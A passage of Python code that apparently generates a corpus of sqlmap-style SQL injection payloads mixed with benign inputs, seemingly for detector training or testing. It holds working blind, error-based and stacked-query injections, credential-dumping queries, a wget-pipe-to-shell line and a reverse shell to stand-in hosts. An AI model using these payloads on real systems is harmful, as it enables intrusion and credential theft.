        m = re.search(r'("[^"]+"|[A-Za-z_]+)\s*=\s*\'?$', pre)
        return m.group(1) if m else None
    return None


@by_template
def slot_info(tpl, slot):
    return corpus_kit.slot_info(globals(), tpl, slot)




# ---------------------------------------------------------------- benign input pools
POOLS = {
 "input_apostrophe_names": ["Orla O'Driscoll", "Grower's Choice Phal", "D'Souza Kennels", "Musher's Secret", "Skipper's Rest", "Lord Gottle's Figure",
   "Rider's Pick", "Watchmaker's Loupe", "Declarer's Play", "Gardener's Yew", "Dealer's Ledger", "Strummer's Corner", "Scrapper's Yard",
   "Keeper's Gecko", "Owl's Loft", "Ostrich's Egg", "Barber's Pole", "Ó Briain", "Ta'ufo'ou Lavaka", "Mo'Nique Ellis", "Seán Mac Giolla Phádraig",
   "K'iche' Weaving", "Big Sal's Chair", "Grandma's Dendrobium", "N'Diaye Partners", "Jo 'Bronc' Carter", "L'Horloger Suisse", "Bryn's Bull"],
 "input_plain": ["phalaenopsis", "cattleya", "dendrobium", "bark mix", "misting bench", "harness", "gangline", "booties", "sled bag", "dog box", "mooring line",
   "fender", "tender", "spinnaker pole", "dummy", "figure case", "hand puppet", "bull rope", "barrel", "chute", "saddle", "mainspring", "balance wheel",
   "crown", "crystal", "loupe", "scorecard", "bidding box", "duplicate board", "yew", "box hedge", "shears", "peacock", "bracket clock", "georgian silver",
   "hallmark", "soprano uke", "capo", "tuner", "songbook", "copper", "brass", "skip", "weighbridge", "catalytic converter", "vivarium", "heat mat",
   "uvb tube", "basking lamp", "rope bridge", "hot tub", "lantern", "ostrich egg", "incubator", "feather duster", "clippers", "razor", "beard oil", "hot towel"],
 "input_sql_words": ["Select Orchids Ltd", "Union Station Kennels", "Order of the Golden Fender", "Table Bay Charters", "Insert Tab Puppets",
   "Update Rodeo Co", "Delete Key Watches", "Group Bridge Club", "Where Eagles Roost Treehouses", "Having Fun Ukes", "Drop Forge Scrap",
   "Like a Gecko", "Limit Break Barbers", "Join the Dots Topiary", "Grant & Daughters Antiques", "Begin Strumming", "Commit to Dogs",
   "Rollback Ranch", "Cast Iron Reclaim", "Null & Void Ventriloquists", "Exists Farm Ostriches", "Case & Crown Watches", "select a cut -- then pay at the desk",
   "drop the dogs at the trailhead", "Truncate the yew before the frost", "Index Fingers Uke Club", "Alter Ego Figures", "From Egg To Plume",
   "Values Antiques", "Between the Branches Hotel"],
 "input_url_email": ["https://orchid-nursery.example/stock/PH-2231?bench=3", "glasshouse@orchid-nursery.example", "https://sleddogs.example/teams/aurora-eight",
   "mush+runs@sleddogs.example", "https://yachtcharter.example/charters/YC-8830?tab=crew", "skipper@yachtcharter.example", "https://ventguild.example/figures/lord-gottle",
   "https://rodeo.example/results?event=saddle+bronc&perf=2", "secretary@rodeo.example", "https://watchclinic.example/jobs/WJ-55102#timegrapher",
   "service@watchclinic.example", "https://bridgeclub.example/sessions/612/results", "scorer@bridgeclub.example", "https://topiary.example/shapes/peacock/",
   "https://antiques.example/lots/ANT-GEO-0412?sale=88", "valuations@antiques.example", "https://ukeorchestra.example/setlist.pdf", "bookings@treehouses.example",
   "https://scrapyard.example/prices/copper.csv", "https://reptilehouse.example/adopt?animal=221", "mailto:keepers@reptilehouse.example",
   "https://ostrichfarm.example/eggs/2025", "ftp://barbers.example/exports/bookings_2025.csv"],
 "input_json_text": ["{\"eyes\": \"winkers\"}", "{\"mouth\": \"lever\", \"head\": \"spin\"}", "{\"medium\": \"bark\", \"ph\": 5.8}", "[3, 12, 14]",
   "{\"note\": \"O'Driscoll's \\\"lead\\\" dog\"}", "{}", "[]", "{\"rate_spd\": -2, \"amp\": 285}", "{\"a\": [true, {\"b\": null}]}", "{\"bass\": \"walking\"}",
   "{\"hold\": {\"from\": \"14:00\", \"nights\": 2}}", "[{\"lot\": 412, \"sold\": true}]", "{\"emoji\": \"\\ud83e\\udd8e\"}", "{\"skip_yd\": 8, \"permit\": false}"],
 "input_unicode": ["Tromsø", "Kiruna", "Gdańsk", "Zürich", "Plzeň — Doubravka", "Akureyri", "Łódź", "Slovenčina", "Kōbe", "مراكش",
   "بيروت", "אילת", "Ηράκλειο", "Екатеринбург", "盆栽", "兰花", "นาฬิกา", "घड़ी", "ஆர்க்கிட்", "Tūhoe", "Kauaʻi", "Øresund berth",
   "e\u0301 combining", "🦎 gecko", "🛷 sled", "⛵ yacht", "🕰️ clock", "🎸 uke", "🐓 bird", "A\u200dB join", "\u202ekcod RLO", "\u200fright mark", "ﬀ ligature",
   "ʻeleʻele", "‘single curly’", "„low-high“", "＂fullwidth quotes＂"],
 "input_whitespace": ["   three leading", "trailing   ", "inner    gap", "a\tb\tc", "two\n\nlines", "\t\tdouble tab", "     ", "y \t z", "cr\rend", "nbsp\u00a0here",
   "\u00a0\u00a0", "hair\u200aspace", "end\n", "\u2003em space", "\u205fmath space"],
 "input_numeric_string": ["09", "00000", "3e4", "2.71828", "-12", "+5", "1,250,000", "0.50", "0x1F", "2_000", "000318", "-2147483648", "+0", "5.0e-2", "١٢", "¾"],
 "input_punctuation": ["!?!", "—", "e:\\yard\\tickets", "100%", "#7", "Bb", "(n/a)", "[draft]", "{tbc}", "a--b", "3*4", "@owl_loft", "../", "6'2\"", "a;b", "-- aside",
   "/**/", "&&", ";-)", "&lt;", "!=", "'single'", "``", "$2", "$x$", "€ 12,50", "¡hola!", "o_O", "~user"],
 "input_formatted": ["YC-8830-B", "69°39′N 18°57′E", "+47 77 00 00 00", "2026-W05", "ISO 3159", "WJ/2025/55102", "SKU-UKE-SOP-MAH",
   "v2.0.0-rc.1", "00:03:41.250", "+2 s/d ± 1", "TR9 6QP", "#3B7A57", "8 yd skip", "Board 17 N/S", "EBU 40112", "Grade 5 (merit)"],
}
SENTS = ["Phal spike snapped during repotting; stake the second spike and move the plant off the misting bench.", "Lead dog favouring the left fore -- rest her two runs and check the bootie fit.",
         "Charter YC-8830's skipper reports the anchor windlass jams; the engineer boards Saturday at 8 am.", "Lord Gottle's jaw lever sticks in the cold; re-glue the felt and don't oil the spring.",
         "Performance 2 delayed 20 minutes: arena watered again after the barrel racing.", "Rate +12 s/d dial up, +3 crown down; amplitude low -- clean and re-oil the escapement.",
         "Board 17 misdealt; the director awarded average plus to N/S and average minus to E/W.", "Peacock tail trimmed to the frame; box blight spots on the chess knight, spray after rain.",
         "Georgian teapot: lid hallmark worn, body marked London 1792 -- catalogue as 'probably' not 'by'.", "Baritone section to bring capos; we're playing it in G, not in A, on Friday.",
         "Copper price dropped 3% overnight; hold bright wire at yesterday's rate until 2 pm.", "Basking spot read 41 C at 14:00; lower the lamp and log it again tonight.",
         "Owl Loft guests asked for a late check-out; the rope bridge lights need a new fuse.", "Egg 31 candled clear at day 14 -- remove it and re-rotate the incubator trays.",
         "Client allergic to the sandalwood balm; use the unscented one and note it in the card.", "select the quietest treehouse -- drop the ones near the road; update the rota after lunch."]


def typed_value(r, knd):
    """(value, family) for a slot read as a value of kind knd."""
    if knd == "date":
        return rdate(r, 2016, 2030), "input_formatted"
    if knd == "ts":
        return "%s%s%02d:%02d%s" % (rdate(r, 2019, 2028), r.choice([" ", "T"]), r.randint(0, 23), r.randint(0, 59), r.choice(["", ":30", ":07", "+01", "-03:00", "Z", ".5"])), "input_formatted"
    if knd == "interval":
        return r.choice(["%d %s" % (r.randint(1, 90), r.choice(["minutes", "hours", "days", "hrs"])), "%d week" % r.randint(1, 2),
                         "PT%dM" % r.randint(5, 90), "%02d:%02d:00" % (r.randint(0, 5), r.randint(0, 59)), "%d days %d hours" % (r.randint(1, 3), r.randint(1, 23))]), "input_formatted"
    if knd == "email":
        return "%s%s@%s" % (r.choice(["musher.anna", "K.Lindqvist", "tick.tock", "h.vogel", "keeper.sam", "V.Ramos", "gecko.fan", "t.ward", "canopy", "J.Birch"]),
                            r.choice(["", "+dogs", ".23"]), r.choice(["example.org", "Example.NET", "post.example"])), "input_url_email"
    if knd == "token":
        return "".join(r.choice("0123456789abcdef") for _ in range(r.choice([10, 16, 24, 40]))), "input_formatted"
    if knd == "json":
        return r.choice(["{\"eyes\": \"%s\"}" % r.choice(["winkers", "sliders", "fixed", "glass"]), "{\"mouth\": \"%s\"}" % r.choice(["lever", "string", "trigger"]),
                         "{\"spinning_head\": %s}" % r.choice(["true", "false"]), "{\"height_cm\": %d}" % r.randint(40, 110), "{\"tags\": [\"antique\", \"1950s\"]}",
                         "{\"maker\": \"O'Hara\"}", "{}"]), "input_json_text"
    if knd == "jkey":
        return r.choice(["bass", "harmony", "melody", "strum", "intro", "outro"]), "input_plain"
    raise KeyError(knd)


# ---------------------------------------------------------------- what an attacker goes after
# (table, login column, secret column, a known login)
LOOT = [("res_users", "login", "password", "glasshouse.b"), ("mdl_user", "username", "password", "musher.anna"), ("jos_users", "username", "password", "skipper_jo"),
        ("vent_members", "login", "pass_hash", "lord.gottle"), ("stock_contractors", "login", "password_hash", "flying_u"), ("watch_customers", "Email", "CardToken", "tick.tock@example.org"),
        ("bridge_members", "ebu_no", "portal_pw", "40112"), ("gardener", "username", "passcode", "box.hedge"), ("llx_user", "login", "pass_crypted", "admin"),
        ("uke_members", "email", "pw_hash", "strum@example.org"), ("\"SCRAP_SELLERS\"", "\"NAME\"", "\"BANK_SORT\"", "DAVE"), ("reptile_keepers", "email", "licence_no", "keeper.sam@example.org"),
        ("treehouse_guests", "email", "password_hash", "canopy@example.org"), ("ostrich_buyers", "account", "password_digest", "karoo.leather"), ("oc_users", "uid", "password", "barber.vinnie")]
HOSTS = ["a23.oast.example", "q23.dnslog.example", "y.burp-23.example", "c23.interact.example.net", "ex23.canary.example"]
IPS = ["203.0.113.123", "198.51.100.23", "192.0.2.223", "203.0.113.23"]
FILES = ["/etc/passwd", "/etc/shadow", "/etc/hostname", "/proc/self/cmdline", "/proc/self/status", "/proc/net/tcp", "pg_hba.conf", "pg_ident.conf",
         "postgresql.conf", "server.key", "/root/.bash_history", "/var/lib/postgresql/.pgpass", "/etc/ssl/private/ssl-cert-snakeoil.key",
         "current_logfiles", "PG_VERSION", "../../../../../etc/shadow"]
CMDS = ["whoami", "uname -a", "cat /etc/issue", "printenv", "ls -la /var/lib/postgresql", "wget -qO- http://a23.oast.example/s | sh", "bash -c 'bash -i >& /dev/tcp/203.0.113.123/4444 0>&1'",
        "dig +short $(hostname).q23.dnslog.example", "ps aux", "id -a", "perl -e 'print getpwuid($<)'"]
ROLES = ["postgres", "pg_read_server_files", "pg_write_server_files", "pg_execute_server_program", "pg_monitor", "pg_checkpoint", "pg_read_all_data",
         "pg_write_all_data", "cloudsqlsuperuser", "rds_superuser", "kennel_owner"]
SECRET_EXPRS = ["(SELECT string_agg(usename || ':' || coalesce(passwd, ''), ';') FROM pg_shadow)", "(SELECT string_agg(name || '=' || setting, ';') FROM pg_settings WHERE name LIKE '%password%')",
                "(SELECT string_agg(datname, ',') FROM pg_database)", "current_setting('config_file')", "current_setting('hba_file')",
                "(SELECT string_agg(extname || ' ' || extversion, ',') FROM pg_extension)", "(SELECT password_digest FROM ostrich_buyers WHERE account = 'karoo.leather')",
                "(SELECT string_agg(srvname || ' ' || array_to_string(srvoptions, ','), ';') FROM pg_foreign_server)",
                "(SELECT string_agg(map_name || ' ' || sys_name, ';') FROM pg_ident_file_mappings)", "(SELECT string_agg(slot_name, ',') FROM pg_replication_slots)",
                "pg_postmaster_start_time()::text", "pg_read_file('pg_hba.conf')"]


def loot(r):
    return r.choice(LOOT)


def target(r):
    t, u, p, who = loot(r)
    return r.choice(["current_user", "session_user", "version()", "current_database()", "current_setting('server_version_num')", "current_setting('port')",
                     "current_setting('hba_file')", "pg_backend_pid()::text", "inet_server_port()::text", "current_schema()", "current_role",
                     "(SELECT %s FROM %s WHERE %s = '%s')" % (p, t, u, who.replace("'", "''")), "(SELECT %s FROM %s LIMIT 1 OFFSET %d)" % (p, t, r.randint(0, 9)),
                     "(SELECT string_agg(%s, ',') FROM %s)" % (p, t), "(SELECT json_agg(z)::text FROM %s z)" % t] + [r.choice(SECRET_EXPRS)] * 4)


def probe_named(r, e=None):
    e = e or target(r)
    x = "(%s)::text" % e
    pos = r.randint(1, 40)
    ch = r.choice("abcdefghijklmnopqrstuvwxyz0123456789_")
    return r.choice([
        ("regexp_count_gt", "regexp_count(%s, '%s') > %d" % (x, ch, pos % 3)), ("regexp_like_prefix", "regexp_like(%s, '^%s', 'i')" % (x, ch)),
        ("regexp_instr_eq", "regexp_instr(%s, '%s') = %d" % (x, ch, pos)), ("regexp_substr_eq", "regexp_substr(%s, '.', %d) = '%s'" % (x, pos, ch)),
        ("starts_with_char", "starts_with(%s, '%s')" % (x, ch)), ("get_byte_gt", "get_byte(convert_to(%s, 'UTF8'), %d) > %d" % (x, pos - 1, r.randint(48, 122))),
        ("bit_length_gt", "bit_length(%s) > %d" % (x, pos * 8)), ("lpad_eq", "lpad(%s, %d) = '%s'" % (x, pos % 4 + 1, ch)),
        ("split_part_len", "length(split_part(%s, '.', 1)) = %d" % (x, pos % 9 + 1)), ("translate_eq", "translate(substr(%s, %d, 1), 'abcdef', 'ABCDEF') = '%s'" % (x, pos, ch.upper())),
        ("base64_prefix", "left(encode(convert_to(%s, 'UTF8'), 'base64'), 1) = '%s'" % (x, r.choice("ABCDEFGHcdYZ"))), ("hashtext_mod", "abs(hashtext(%s)) %% 2 = 0" % x),
        ("btrim_len", "length(btrim(%s)) > %d" % (x, pos)), ("substr_between", "substr(%s, %d, 1) BETWEEN 'a' AND '%s'" % (x, pos, ch)),
        ("array_position_char", "array_position(regexp_split_to_array(%s, ''), '%s') = %d" % (x, ch, pos)), ("similar_to_prefix", "%s SIMILAR TO '%s%%'" % (x, ch))])


def probe(r, e=None):
    return probe_named(r, e)[1]


# ---------------------------------------------------------------- sqlmap: its test catalogue for PostgreSQL and the other DBMSes, boundaries, tampers
def delimiter(r):
    """kb.chars start/stop: q, three letters, q."""
    return "q%sq" % "".join(r.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(3))


DUMP = {"res_users": ["login", "password", "nursery_pin"], "mdl_user": ["username", "password", "email"], "jos_users": ["username", "password"],
        "vent_members": ["login", "pass_hash"], "stock_contractors": ["login", "password_hash"], "watch_customers": ["Email", "CardToken"],
        "bridge_members": ["ebu_no", "portal_pw"], "gardener": ["username", "passcode"], "llx_user": ["login", "pass_crypted", "api_key"],
        "uke_members": ["email", "pw_hash"], "SCRAP_SELLERS": ["NAME", "BANK_SORT"], "reptile_keepers": ["email", "licence_no"],
        "treehouse_guests": ["email", "password_hash", "reset_token"], "ostrich_buyers": ["account", "password_digest"], "oc_users": ["uid", "password"]}
GUESS_TABLES = ["tb_usuario", "users_tbl", "logins", "user_info", "sys_user", "operators", "admins", "phpbb_users", "members", "accounts", "auth_users", "utilisateurs"]
GUESS_COLUMNS = ["user_password", "pass_word", "pwd_hash", "secret", "api_key", "pincode", "passwort", "login_name", "e_mail", "session_token"]


class Enc:
    """How a request spells its strings: the delimiters quoted (as most of dev's requests have them) or by CHR();
    casts as COALESCE(CAST(x AS VARCHAR(10000))::text,(CHR(32))), bare under --no-cast."""

    def __init__(self, r):
        self.quoted = r.random() < 0.7
        self.nocast = r.random() < 0.06

    def s(self, v):
        return q(v) if self.quoted else chrs(v)

    def cast(self, col):
        return col if self.nocast else "COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))" % col


def enumeration(r, o):
    """A scalar query of sqlmap's PostgreSQL enumeration (fingerprint, users, passwords, privileges, roles, schemas, tables, columns, counts, dumps)."""
    tbl = r.choice(sorted(DUMP))
    cols = DUMP[tbl]
    n = r.randint(0, 30)
    k = r.randrange(17)
    if k < 5:
        e, _ = corpus_kit.SQLMAP_FINGERPRINT[k]
        return "(SELECT %s)" % o.cast(e) if k < 4 else e
    if k == 5:
        return "(SELECT %s FROM pg_user OFFSET %d LIMIT 1)" % (o.cast("usename"), n % 6)
    if k == 6:
        return "(SELECT %s FROM pg_shadow OFFSET %d LIMIT 1)" % (o.cast("passwd"), n % 3)
    if k == 7:
        return "(SELECT COUNT(usename)::text FROM pg_user)"
    if k == 8:
        return "(SELECT (CASE WHEN usesuper THEN 1 ELSE 0 END)::text FROM pg_user WHERE usename=%s OFFSET 0 LIMIT 1)" % o.s(r.choice(["postgres", "kennel_owner"]))
    if k == 9:
        return "(SELECT %s FROM pg_roles OFFSET %d LIMIT 1)" % (o.cast("rolname"), n % 12)
    if k == 10:
        return "(SELECT %s FROM pg_namespace WHERE nspname NOT LIKE %s OFFSET %d LIMIT 1)" % (o.cast("nspname"), o.s("pg_%"), n % 4)
    if k == 11:
        return "(SELECT %s FROM pg_database OFFSET %d LIMIT 1)" % (o.cast("datname"), n % 5)
    if k == 12:
        return "(SELECT %s FROM pg_tables WHERE schemaname=%s OFFSET %d LIMIT 1)" % (o.cast("tablename"), o.s("public"), n % 20)
    if k == 13:
        return ("(SELECT %s FROM pg_attribute b JOIN pg_class a ON a.oid=b.attrelid JOIN pg_namespace d ON a.relnamespace=d.oid "
                "WHERE b.attnum>0 AND a.relname=%s AND nspname=%s OFFSET %d LIMIT 1)" % (o.cast("attname"), o.s(tbl), o.s("public"), n % len(cols)))
    if k == 14:
        return "(SELECT COUNT(*)::text FROM public.%s)" % tbl
    c = r.choice(cols)
    return "(SELECT %s FROM public.%s ORDER BY %s OFFSET %d LIMIT 1)" % (o.cast(c), tbl, cols[0], n)


def pg_inference(r, o):
    """The condition of one PostgreSQL vector request: dev's simple ones (length of the database name, the table
    count) as often as a bisection step on one character of an enumeration query."""
    x = r.random()
    if x < 0.16:
        return "LENGTH(current_database())>%d" % r.randint(1, 12)
    if x < 0.3:
        return "(SELECT COUNT(*) FROM pg_tables)>%d" % r.randint(40, 110)
    if x < 0.34:
        return "EXISTS(SELECT %d FROM %s)" % (randnum(r), r.choice(GUESS_TABLES))
    if x < 0.37:
        return "EXISTS(SELECT %s FROM %s)" % (r.choice(GUESS_COLUMNS), r.choice(sorted(DUMP)))
    e = enumeration(r, o)
    if x < 0.88:
        v = r.choice([r.randint(97, 122), r.randint(48, 57), r.randint(65, 90), 95, 46])
        return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))>%d" % (e, r.randint(1, 30), r.choice(bisection(v)))
    return "LENGTH((%s)::text)>%d" % (e, r.randint(1, 40))


MYSQL_EXPRS = ["DATABASE()", "CURRENT_USER()", "VERSION()", "@@HOSTNAME", "USER()", "@@DATADIR", "SCHEMA()"]
ORACLE_EXPRS = [("USER", "DUAL"), ("SYS.DATABASE_NAME", "DUAL"), ("SYS_CONTEXT('USERENV','HOST')", "DUAL"), ("banner", "v$version WHERE ROWNUM=1")]
MSSQL_EXPRS = ["DB_NAME()", "SYSTEM_USER", "@@VERSION", "HOST_NAME()", "@@SERVERNAME", "USER_NAME()"]


def dialect_inference(r, dbms, o):
    """A vector request's condition in the DBMS's own spelling (dev mixes these with PostgreSQL's)."""
    pos, v = r.randint(1, 20), r.choice(bisection(r.randint(48, 122)))
    if dbms == "MySQL" and r.random() < 0.6:
        if r.random() < 0.75:
            return "ORD(MID((SELECT IFNULL(CAST(%s AS NCHAR),0x20)),%d,1))>%d" % (r.choice(MYSQL_EXPRS), pos, v)
        return "ORD(MID((SELECT IFNULL(CAST(%s AS NCHAR),0x20) FROM %s LIMIT %d,1),%d,1))>%d" % (
            r.choice(["authentication_string", "User", "table_name"]), r.choice(["mysql.user", "INFORMATION_SCHEMA.TABLES"]), r.randint(0, 9), pos, v)
    if dbms == "Oracle" and r.random() < 0.6:
        e, frm = r.choice(ORACLE_EXPRS)
        return "ASCII(SUBSTRC((SELECT NVL(CAST(%s AS VARCHAR(4000)),CHR(32)) FROM %s),%d,1))>%d" % (e, frm, pos, v)
    if dbms == "Microsoft SQL Server" and r.random() < 0.6:
        return "UNICODE(SUBSTRING((SELECT ISNULL(CAST(%s AS NVARCHAR(4000)),CHAR(32))),%d,1))>%d" % (r.choice(MSSQL_EXPRS), pos, v)
    return pg_inference(r, o)


def dialect_query(r, dbms, o, vector):
    """What an error-based or inline request reads: a CASE for detection, a value in the DBMS's spelling for a vector."""
    R = randnum(r)
    if dbms == "MySQL":
        return "(SELECT MID((IFNULL(CAST(%s AS NCHAR),0x20)),1,54))" % r.choice(MYSQL_EXPRS) if vector else "(SELECT (ELT(%d=%d,1)))" % (R, R)
    if dbms == "Oracle":
        e, frm = r.choice(ORACLE_EXPRS)
        return "(SELECT NVL(CAST(%s AS VARCHAR(4000)),CHR(32)) FROM %s)" % (e, frm) if vector else "(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END) FROM DUAL)" % (R, R)
    if dbms == "Microsoft SQL Server":
        return "(SELECT ISNULL(CAST(%s AS NVARCHAR(4000)),CHAR(32)))" % r.choice(MSSQL_EXPRS) if vector else "(SELECT (CASE WHEN (%d=%d) THEN %s ELSE %s END))" % (R, R, q("1"), q("0"))
    return enumeration(r, o) if vector else r.choice(["(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END))" % (R, R), "(SELECT CASE WHEN (%d=%d) THEN %s ELSE %s END)" % (R, R, q("1"), q("0"))])


def hx(s):
    return "0x" + s.encode().hex()


HASH = "\x01"       # marks a MySQL test whose comment is '#'
# the share of each sqlmap family's requests that come from a test for another DBMS (dev.jsonl's shares)
NONPG_SHARE = {"sqlmap_boolean_blind": 0.29, "sqlmap_time_blind": 0.66, "sqlmap_error_based": 0.7, "sqlmap_stacked_queries": 0.58, "sqlmap_inline_query": 0.35}
B, TB, EB, SQ, IQ = "sqlmap_boolean_blind", "sqlmap_time_blind", "sqlmap_error_based", "sqlmap_stacked_queries", "sqlmap_inline_query"


def pg_tests(r, vector, o, R, R1, R2, SLEEP, INF, QRY, D1, D2):
    H, SL, CW, HQ = sqlmap_delays(R, SLEEP, INF, vector)
    SUBQ = "(SELECT (CASE WHEN (%s) THEN %d ELSE (SELECT %d UNION SELECT %d) END))" % (INF, R, R1, R2)
    GS = "GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END)" % (R, R, INF)
    ERR = "CAST(%s||(%s)::text||%s AS NUMERIC)" % (D1, QRY, D2)
    ERRGS = ERR if vector else "CAST(%s||(SELECT 1 FROM %s LIMIT 1)::text||%s AS NUMERIC)" % (D1, GS, D2)
    DUAL = "%d*(SELECT %d FROM DUAL UNION SELECT %d FROM DUAL)" % (R, R, R1)
    return [
        (B, "AND boolean-based blind - WHERE or HAVING clause", "generic", "cond", 1, "AND %s" % INF, False),
        (B, "AND boolean-based blind - WHERE or HAVING clause (comment)", "generic", "cond", 1, "AND %s" % INF, True),
        (B, "AND boolean-based blind - WHERE or HAVING clause (subquery - comment)", "generic", "cond", 1, "AND %d=%s" % (R, SUBQ), True),
        (B, "OR boolean-based blind - WHERE or HAVING clause", "generic", "cond", 2, "OR %s" % INF, False),
        (B, "OR boolean-based blind - WHERE or HAVING clause (comment)", "generic", "cond", 2, "OR %s" % INF, True),
        (B, "OR boolean-based blind - WHERE or HAVING clause (NOT)", "generic", "cond", 1, "OR NOT %s" % INF, False),
        (B, "OR boolean-based blind - WHERE or HAVING clause (NOT - comment)", "generic", "cond", 1, "OR NOT %s" % INF, True),
        (B, "OR boolean-based blind - WHERE or HAVING clause (subquery - comment)", "generic", "cond", 2, "OR %d=%s" % (R, SUBQ), True),
        (B, "HAVING boolean-based blind - WHERE, GROUP BY clause", "generic", "cond", 1, "HAVING %s" % INF, False),
        (B, "Boolean-based blind - Parameter replace (original value)", "generic", "repl", 3, "(SELECT (CASE WHEN (%s) THEN {orig} ELSE (SELECT %d UNION SELECT %d) END))" % (INF, R1, R2), False),
        (B, "Boolean-based blind - Parameter replace (DUAL)", "generic", "repl", 3, "(CASE WHEN (%s) THEN %d ELSE %s END)" % (INF, R, DUAL), False),
        (B, "Boolean-based blind - Parameter replace (DUAL - original value)", "generic", "repl", 3, "(CASE WHEN (%s) THEN {orig} ELSE %s END)" % (INF, DUAL), False),
        (B, "Boolean-based blind - Parameter replace (CASE)", "generic", "repl", 3, "(CASE WHEN %s THEN %d ELSE NULL END)" % (INF, R), False),
        (B, "Boolean-based blind - Parameter replace (CASE - original value)", "generic", "repl", 3, "(CASE WHEN %s THEN {orig} ELSE NULL END)" % INF, False),
        (B, "PostgreSQL AND boolean-based blind - WHERE or HAVING clause (CAST)", PG, "cond", 1,
         "AND (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST(%s AS NUMERIC) END)) IS NULL" % (INF, o.s(rstr(r))), False),
        (B, "PostgreSQL OR boolean-based blind - WHERE or HAVING clause (CAST)", PG, "cond", 2,
         "OR (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST(%s AS NUMERIC) END)) IS NULL" % (INF, o.s(rstr(r))), False),
        (B, "PostgreSQL boolean-based blind - Parameter replace", PG, "repl", 3, "(SELECT (CASE WHEN (%s) THEN %d ELSE 1/(SELECT 0) END))" % (INF, R), False),
        (B, "PostgreSQL boolean-based blind - Parameter replace (original value)", PG, "repl", 3, "(SELECT (CASE WHEN (%s) THEN {orig} ELSE 1/(SELECT 0) END))" % INF, False),
        (B, "PostgreSQL boolean-based blind - Parameter replace (GENERATE_SERIES)", PG, "repl", 3, "(SELECT * FROM %s LIMIT 1)" % GS, False),
        (B, "PostgreSQL boolean-based blind - Parameter replace (GENERATE_SERIES - original value)", PG, "repl", 3, "(SELECT {orig} FROM %s LIMIT 1)" % GS, False),
        (B, "PostgreSQL boolean-based blind - ORDER BY, GROUP BY clause", PG, "order", 1, ",(SELECT (CASE WHEN (%s) THEN 1 ELSE 1/(SELECT 0) END))" % INF, False),
        (B, "PostgreSQL boolean-based blind - ORDER BY clause (original value)", PG, "order", 1, ",(SELECT (CASE WHEN (%s) THEN {orig} ELSE 1/(SELECT 0) END))" % INF, False),
        (B, "PostgreSQL boolean-based blind - ORDER BY clause (GENERATE_SERIES)", PG, "order", 1, ",(SELECT * FROM %s LIMIT 1)" % GS, False),
        (B, "PostgreSQL boolean-based blind - Stacked queries", PG, "stack", 1, ";SELECT (CASE WHEN (%s) THEN %d ELSE 1/(SELECT 0) END)" % (INF, R), True),
        (B, "PostgreSQL boolean-based blind - Stacked queries (GENERATE_SERIES)", PG, "stack", 1, ";SELECT * FROM %s LIMIT 1" % GS, True),
        (TB, "PostgreSQL > 8.1 AND time-based blind", PG, "cond", 1, "AND %d=%s" % (R, CW(SL)), False),
        (TB, "PostgreSQL > 8.1 AND time-based blind (comment)", PG, "cond", 1, "AND %d=%s" % (R, CW(SL)), True),
        (TB, "PostgreSQL > 8.1 OR time-based blind", PG, "cond", 2, "OR %d=%s" % (R, CW(SL)), False),
        (TB, "PostgreSQL > 8.1 OR time-based blind (comment)", PG, "cond", 2, "OR %d=%s" % (R, CW(SL)), True),
        (TB, "PostgreSQL AND time-based blind (heavy query)", PG, "cond", 1, "AND %d=%s" % (R, CW(HQ)), False),
        (TB, "PostgreSQL AND time-based blind (heavy query - comment)", PG, "cond", 1, "AND %d=%s" % (R, CW(HQ)), True),
        (TB, "PostgreSQL OR time-based blind (heavy query)", PG, "cond", 2, "OR %d=%s" % (R, CW(HQ)), False),
        (TB, "PostgreSQL OR time-based blind (heavy query - comment)", PG, "cond", 2, "OR %d=%s" % (R, CW(HQ)), True),
        (TB, "PostgreSQL > 8.1 time-based blind - Parameter replace", PG, "repl", 3, CW(SL), False),
        (TB, "PostgreSQL time-based blind - Parameter replace (heavy query)", PG, "repl", 3, CW(HQ), False),
        (TB, "PostgreSQL > 8.1 time-based blind - ORDER BY, GROUP BY clause", PG, "order", 1, ",(SELECT (CASE WHEN (%s) THEN %s ELSE 1/(SELECT 0) END))" % (INF, SL), False),
        (TB, "PostgreSQL time-based blind - ORDER BY, GROUP BY clause (heavy query)", PG, "order", 1, ",(SELECT (CASE WHEN (%s) THEN %s ELSE 1/(SELECT 0) END))" % (INF, HQ), False),
        (EB, "PostgreSQL AND error-based - WHERE or HAVING clause", PG, "cond", 1, "AND %d=%s" % (R, ERR), False),
        (EB, "PostgreSQL OR error-based - WHERE or HAVING clause", PG, "cond", 2, "OR %d=%s" % (R, ERR), False),
        (EB, "PostgreSQL error-based - Parameter replace", PG, "repl", 3, "(%s)" % ERR, False),
        (EB, "PostgreSQL error-based - Parameter replace (GENERATE_SERIES)", PG, "repl", 3, "(%s)" % ERRGS, False),
        (EB, "PostgreSQL error-based - ORDER BY, GROUP BY clause", PG, "order", 1, ",(%s)" % ERR, False),
        (EB, "PostgreSQL error-based - ORDER BY, GROUP BY clause (GENERATE_SERIES)", PG, "order", 1, ",(%s)" % ERRGS, False),
        (SQ, "PostgreSQL > 8.1 stacked queries (comment)", PG, "stack", 1, ";SELECT %s" % (CW(SL) if vector else "PG_SLEEP(%d)" % SLEEP), True),
        (SQ, "PostgreSQL > 8.1 stacked queries", PG, "stack", 1, ";SELECT %s" % (CW(SL) if vector else "PG_SLEEP(%d)" % SLEEP), False),
        (SQ, "PostgreSQL stacked queries (heavy query)", PG, "stack", 1, ";SELECT %s" % (CW(HQ) if vector else "COUNT(*) FROM GENERATE_SERIES(1,%s)" % H), False),
        (SQ, "PostgreSQL stacked queries (heavy query - comment)", PG, "stack", 1, ";SELECT %s" % (CW(HQ) if vector else "COUNT(*) FROM GENERATE_SERIES(1,%s)" % H), True),
        (SQ, "PostgreSQL < 8.2 stacked queries (Glibc)", PG, "stack", 1,
         ";SELECT %s" % CW("(SELECT %d FROM SLEEP(%d))" % (R, SLEEP)) if vector else
         ";CREATE OR REPLACE FUNCTION SLEEP(int) RETURNS int AS '/lib/libc.so.6','sleep' language 'C' STRICT; SELECT sleep(%d)" % SLEEP, False),
        (SQ, "PostgreSQL < 8.2 stacked queries (Glibc - comment)", PG, "stack", 1,
